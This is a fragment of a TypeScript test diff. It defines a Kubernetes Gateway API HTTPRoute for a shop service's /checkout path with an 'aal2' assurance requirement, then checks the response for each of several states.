+      req: applied({ apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: { name: 'shop', namespace: 'dev' }, spec: { parentRefs: [{ name: 'public', namespace: 'istio-ingress' }], hostnames: ['shop.example.com'], rules: [{ matches: [{ path: { type: 'PathPrefix', value: '/checkout' } }], backendRefs: [{ name: 'web', port: 8080 }] }] } }),
+      need: 'aal2',
+    };
+    for (const state of Object.keys(STATES) as State[]) judge(e, state, await send(e, state));
+  });
+});
